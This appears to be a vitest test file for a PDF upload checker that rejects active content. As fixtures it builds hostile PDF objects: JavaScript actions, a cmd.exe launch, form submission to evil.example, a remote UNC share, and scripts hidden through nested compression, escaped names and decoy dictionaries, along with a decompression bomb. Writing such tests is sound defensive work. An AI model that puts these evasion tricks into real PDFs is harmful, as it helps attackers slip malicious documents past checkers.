import { deflateSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { plainPdf } from "../../../emulators/demo/documents.ts";
import { cutAt } from "../../../tests/fixtures/pictures.ts";
import { judgePdf } from "./judge-pdf.ts";

const refusalOf = (bytes: Buffer) =>
  judgePdf(bytes).then(
    () => "accepted",
    (error: { refusal?: string }) => error.refusal ?? error,
  );

/** Packed so often. */
const packedTimes =
  (times: number) =>
  (bytes: Buffer): Buffer => {
    let packed = bytes;
    for (let time = 0; time < times; time++) packed = deflateSync(packed);
    return packed;
  };

/** A container of objects as it lies in a file, packed in a way of the test's choice. */
function container(objects: string, { dictionary = "/Filter /FlateDecode", pack = packedTimes(1) } = {}) {
  const packed = pack(Buffer.from(objects, "latin1"));
  const head = `<< /Type /ObjStm /N 1 /First 4 ${dictionary} /Length ${packed.length} >>\nstream\n`;
  return `${head}${packed.toString("latin1")}\nendstream`;
}
const TWICE = { dictionary: "/Filter [/FlateDecode /FlateDecode]", pack: packedTimes(2) };
/** A container of a script, packed twice, whose dictionary begins with what is to lead astray. */
const decoyed = (decoy: string) => container(SCRIPT, TWICE).replace("<< ", `<< ${decoy} `);

const SCRIPT = "9 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>";

describe("a PDF", () => {
  it("passes when it is whole and plain, with containers of plain objects as well", async () => {
    expect(await refusalOf(plainPdf(["Consent to ICSI", "Read and signed."]))).toBe("accepted");
    expect(await refusalOf(plainPdf(["Consent"], [container("9 0 << /Title (Harmless) >>")]))).toBe("accepted");
    expect(await refusalOf(plainPdf(["Consent"], ["<< /S /URI /URI (https://example.org) >>"]))).toBe("accepted");
  });

  it.each([
    [
      "a container packed by a list of one",
      container("9 0 << /Title (Harmless) >>", { dictionary: "/Filter [/FlateDecode]" }),
    ],
    [
      "the profile of a photograph in letters",
      "<< /N 1 /Filter /ASCII85Decode /Length 20 >>\nstream\n87cURD]j7BEbo8/E,oj~>\nendstream",
    ],
    ["an empty container", container("", { dictionary: "" }).replace("/N 1 /First 4", "/N 0 /First 0")],
    [
      "a photograph packed twice",
      "<< /Subtype /Image /Filter [/FlateDecode /DCTDecode] /Length 3 >>\nstream\nabc\nendstream",
    ],
    [
      "a table of differences",
      "<< /Type /XRef /W [1 2 1] /Filter /FlateDecode /DecodeParms << /Columns 4 /Predictor 12 >> >>\nstream\nx\nendstream",
    ],
    ["a text that looks like an object", "<< /Length 30 >>\nstream\n(1 0 obj is a word \\) here) Tj\nendstream"],
  ])("passes with %s", async (_what, object) => {
    expect(await refusalOf(plainPdf(["Consent"], [object, container("9 0 << /Title (Plain) >>")]))).toBe("accepted");
  });

  it.each([10, 40, 90])("is damaged when it is cut at %i percent", async (percent) => {
    expect(await refusalOf(cutAt(plainPdf(["Consent"]), percent))).toBe("damaged");
  });

  it("is refused when something hangs on its end or stands before it", async () => {
    const zip = Buffer.from("PK\u0003\u0004payload.exe", "latin1");
    expect(await refusalOf(Buffer.concat([plainPdf(["Consent"]), zip]))).toBe("damaged");
    expect(await refusalOf(Buffer.concat([Buffer.from("MZ\n"), plainPdf(["Consent"])]))).toBe("damaged");
  });

  it.each([
    ["a script", "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"],
    ["a script whose name is written in numbers", "<< /S /J#61v#61Script /JS (x) >>"],
    ["a program to start", "<< /S /Launch /F (cmd.exe) >>"],
    ["an attached file", "<< /Type /Filespec /EF << /F 3 0 R >> /Names << /EmbeddedFiles 9 0 R >> >>"],
    ["a form that sends itself away", "<< /S /SubmitForm /F (https://evil.example) >>"],
    ["a form of another language", "<< /AcroForm << /XFA 9 0 R >> >>"],
    ["another document to open", "<< /S /GoToR /F (\\\\\\\\evil\\\\share) >>"],
    ["a film that runs scripts", "<< /S /Rendition /JS (x) >>"],
    ["a script in a container", container(SCRIPT)],
    [
      "a script in a container without its checksum",
      container(SCRIPT, { pack: (it) => deflateSync(it).subarray(0, -4) }),
    ],
    [
      "a script in a container that is packed oddly",
      container(SCRIPT, { dictionary: "/Filter [/ASCII85Decode /FlateDecode]" }),
    ],
    [
      "a script in a container of differences",
      container("x", { dictionary: "/Filter /FlateDecode /DecodeParms << /Predictor 12 >>" }),
    ],
    ["a script in a container that is packed twice", container(SCRIPT, TWICE)],
    [
      "a script in a container that is packed four times",
      container(SCRIPT, { dictionary: `/Filter [${"/FlateDecode ".repeat(4)}]`, pack: packedTimes(4) }),
    ],
    [
      "a packing whose name is written in numbers",
      container(SCRIPT, { ...TWICE, dictionary: "/F#69lter [/Fl#61teDecode/FlateDecode]" }),
    ],
    [
      "a script in letters",
      "<< /N 1 /First 4 /Filter [/A85] >>\nstream\n3?U!u4?O`>;]m_c@<Q'X@rc:&F<E5/;]mK5.3Lf<~>\nendstream",
    ],
    [
      "letters that viewers read in their own ways",
      "<< /N 1 /Filter /ASCII85Decode >>\nstream\n87cUR{}D]j7BEbo8/E,oj~>\nendstream",
    ],
    ["a packing that is named elsewhere", container(SCRIPT, { ...TWICE, dictionary: "/Filter 3 0 R" })],
    [
      "two packings, of which a viewer takes one",
      container(SCRIPT, { ...TWICE, dictionary: "/Filter /FlateDecode /Filter [/FlateDecode /FlateDecode]" }),
    ],
    [
      "differences in a container that does not say what it is",
      container("x", { dictionary: "/Filter /FlateDecode /DecodeParms << /Predictor 12 >>" }).replace(
        "/Type /ObjStm",
        "",
      ),
    ],
    [
      "a container packed by letters that does not say what it is",
      container(SCRIPT, { dictionary: "/Filter [/ASCIIHexDecode /FlateDecode]" }).replace("/Type /ObjStm", ""),
    ],
    ["a container behind a false end of its object", decoyed("/X (endobj)")],
    ["a container behind a false stream", decoyed("/X (a stream\n)")],
    ["a container behind a false stream in a comment", decoyed("% >> stream\n")],
    ["a container behind more than one would look through", decoyed(`/X (${"x".repeat(5_000)})`)],
    ["a container whose bytes begin with the end of a line", container(SCRIPT).replace("stream\n", "stream\n\n")],
    ["a container that says to hold more than it does", container("9 0 << /Title (a) >>").replace("/N 1", "/N 2")],
    ["a container whose numbers lie elsewhere", container("9 0 << /Title (a) >>").replace("/N 1", "/N 3 0 R")],
    [
      "a container that lies in another file",
      container("9 0 << >>", { dictionary: "/Filter /FlateDecode /F (evil.bin)" }),
    ],
    ["a container whose dictionary has no end", container(SCRIPT, TWICE).replace(">>\nstream", ") >>\nstream")],
    [
      "a script in a container that does not say what it is",
      container(SCRIPT).replace("/Type /ObjStm", "/Type /XObject /Subtype /Image"),
    ],
  ])("is refused for %s", async (_what, object) => {
    expect(await refusalOf(plainPdf(["Consent"], [object]))).toBe("active-content");
  });

  it("is refused when it is encrypted, because nobody could look inside", async () => {
    expect(await refusalOf(plainPdf(["Consent"], ["<< /Encrypt 9 0 R >>"]))).toBe("encrypted");
  });

  it("that unpacks to gigabytes is looked at within bounds", { timeout: 30_000 }, async () => {
    const bomb = deflateSync(Buffer.alloc(64 * 1024 * 1024)).toString("latin1");
    const stream = `<< /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n${bomb}\nendstream`;
    const before = process.memoryUsage().rss;
    expect(await refusalOf(plainPdf(["Consent"], Array<string>(20).fill(stream)))).toBe("accepted");
    expect((process.memoryUsage().rss - before) / 2 ** 20).toBeLessThan(400);
  });
});
